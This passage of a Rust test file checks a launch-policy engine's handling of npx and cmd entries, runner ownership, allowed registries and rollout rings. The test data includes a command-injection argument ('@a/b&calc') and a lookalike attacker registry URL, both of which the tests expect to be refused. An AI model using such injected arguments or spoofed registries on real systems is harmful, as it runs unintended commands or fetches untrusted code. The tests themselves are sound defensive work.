        { "id": "t", "identity": { "executable": { "path": "C:\\Tools\\t.exe" } } },
    ] }));
    let windows = || Context { system: System::Windows, ..now() };
    let mut entry_with = entry("NPX.CMD", &["@a/b"]);
    entry_with.env.push(named("TOKEN", "x"));
    assert_eq!(code_in(&policy, &entry_with, &windows()), "allow");
    assert_ne!(code(&policy, &entry_with), "allow");
    assert_eq!(
        code_in(&policy, &entry("cmd", &["/c", "npx", "@a/b"]), &windows()),
        "allow",
        "cmd /c is implied"
    );
    assert_eq!(code(&policy, &entry("cmd", &["/c", "npx", "@a/b"])), "wrapper-not-allowed");
    assert_eq!(code_in(&policy, &entry("cmd", &["/c", "npx", "@a/b&calc"]), &windows()), "ambiguous-entry");
    let facts = program(file("c:/tools/T.EXE", "c:/tools/T.EXE", None, false));
    assert_eq!(
        code_in(&policy, &entry("c:/tools/T.EXE", &[]), &Context { facts: &facts, ..windows() }),
        "allow"
    );
}

#[test]
fn only_runners_of_the_system_where_the_policy_says_so() {
    let policy = policy_with(
        json!({ "runners": "system" }),
        json!({ "rule": [{ "id": "ab", "identity": { "npm": { "package": "@a/b" } } }] }),
    );
    let check = |facts: Facts| code_in(&policy, &ab(), &Context { facts: &facts, ..now() });
    assert_eq!(check(program(file("/usr/bin/npx", "/usr/bin/npx", None, false))), "allow");
    assert_eq!(
        check(program(file("/home/jane/.nvm/npx", "/home/jane/.nvm/npx", None, true))),
        "runner-user-writable"
    );
    assert_eq!(check(Facts::default()), "missing-fact");
}

#[test]
fn default_registries_are_named_by_the_policy_and_all_others_refused() {
    let registries = json!({ "registries": { "npm": ["https://registry.example.com/npm/"] } });
    let policy = policy_with(
        registries,
        json!({ "rule": [{ "id": "ab", "identity": { "npm": { "package": "@a/b" } } }] }),
    );
    let with = |flag: &[&str]| code(&policy, &entry("npx", &[flag, &["@a/b"]].concat()));
    assert_eq!(with(&["--registry", "https://registry.example.com/npm"]), "allow");
    assert_eq!(with(&["--registry=https://registry.example.com/npm/"]), "allow");
    assert_eq!(with(&["--registry", "https://registry.example.com/other"]), "runner-argument-not-allowed");
    assert_eq!(
        with(&["--registry=https://registry.example.com.evil.example/npm"]),
        "runner-argument-not-allowed"
    );
}

#[test]
fn rings_are_chosen_by_name_then_by_a_stable_share() {
    let policy = policy_with(
        json!({ "mode": "enforce" }),
        json!({ "ring": [{ "name": "named", "devices": ["d-x"], "users": ["u"], "groups": ["g"] }, { "name": "ten", "percent": 10, "mode": "warn" }] }),
    );
    let ring = |id: &str| policy.ring_of(&Device { id, ..Device::default() }).map(str::to_owned);
    assert_eq!(ring("d-x").as_deref(), Some("named"));
    assert_eq!(policy.ring_of(&Device { user: "u", ..Device::default() }), Some("named"));
    let count = (0..2000).filter(|n| ring(&format!("device-{n}")).as_deref() == Some("ten")).count();
    assert!((140..=260).contains(&count), "{count} of 2000 devices are in a ring of 10 %");
    assert_eq!(ring("device-1"), ring("device-1"));
    assert_eq!(ring(""), None);
    assert_eq!(policy.mode(Some("ten")), mcpolicy_schema::document::Mode::Warn);
    assert_eq!(policy.mode(Some("named")), mcpolicy_schema::document::Mode::Enforce);
    assert_eq!(policy.mode(None), mcpolicy_schema::document::Mode::Enforce);
}
